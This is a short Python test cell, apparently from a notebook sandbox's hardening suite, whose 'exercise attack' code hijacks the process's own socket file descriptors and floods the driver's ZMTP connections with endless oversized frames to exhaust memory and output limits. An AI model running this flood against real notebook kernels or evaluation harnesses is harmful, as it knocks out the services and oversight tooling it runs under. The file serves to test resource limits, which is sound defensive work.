# ruff: noqa
# mypy: ignore-errors
# idea: write to the driver's connections directly: one message of endless parts, each small enough
# origin: own
# limits: memory_bytes=1000000000, cell_seconds=30
# verdicts: after=passed
# incident: output_limit

# %% exercise attack
import os, select, socket, stat, struct, time

part = b"\x03" + struct.pack(">Q", 9_000_000) + bytes(9_000_000)  # a long frame with more to follow, as ZMTP writes it
connections = []
for name in os.listdir("/proc/self/fd"):
    try:
        if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
            connection = socket.socket(fileno=os.dup(int(name)))
            if connection.type == socket.SOCK_STREAM and connection.getpeername() is not None:
                connection.setblocking(False)
                connections.append(connection)
    except OSError:
        pass
deadline = time.monotonic() + 20
left = {connection: memoryview(part) for connection in connections}
while time.monotonic() < deadline:
    for connection in select.select([], connections, [], 1)[1]:
        try:
            sent = connection.send(left[connection][:1_000_000])
            left[connection] = left[connection][sent:] or memoryview(part)
        except BlockingIOError:
            pass
        except OSError:
            connections.remove(connection)

# %% test after 1
assert 1 + 1 == 2
